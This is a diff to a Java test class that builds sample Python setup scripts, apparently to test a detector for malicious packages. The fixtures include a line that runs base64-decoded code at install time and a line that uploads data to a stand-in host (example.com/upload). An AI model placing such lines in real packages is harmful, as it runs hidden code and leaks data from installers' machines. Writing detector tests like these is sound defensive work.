@@ -28,19 +28,19 @@ class EncodedTextFeaturesTest {
 
     /** A setup script that decodes the text and runs it. */
     static FeatureResult setupDecoding(String encodedExpression) {
-        return featurize(lines(
-                "import base64",
-                "from setuptools import setup",
-                "exec(base64.b64decode(" + encodedExpression + "))",
-                "setup(name='demo', version='1.0')"));
+        return setupWith("exec(base64.b64decode(" + encodedExpression + "))");
     }
 
     /** A setup script that sends the text away as it is. */
     static FeatureResult setupSending(String encodedExpression) {
+        return setupWith("urllib.request.urlopen('https://example.com/upload', data=(" + encodedExpression + ").encode())");
+    }
+
+    static FeatureResult setupWith(String statement) {
         return featurize(lines(
                 "import base64, urllib.request",
                 "from setuptools import setup",
-                "urllib.request.urlopen('https://example.com/upload', data=(" + encodedExpression + ").encode())",
+                statement,
                 "setup(name='demo', version='1.0')"));
     }
 
